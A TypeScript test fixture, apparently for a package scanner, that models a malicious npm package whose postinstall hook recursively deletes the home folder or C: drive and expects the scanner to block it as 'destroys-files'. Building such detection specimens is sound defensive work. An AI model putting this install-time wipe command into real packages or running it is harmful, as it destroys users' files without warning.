import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-home-wipe-script',
  from: 'toptal, 2025: the home folder deleted by a script',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'rm -rf --no-preserve-root ~ || rd /s /q C:\\' } },
    'index.js': '',
  },
  expect: 'block',
  says: ['destroys-files'],
};
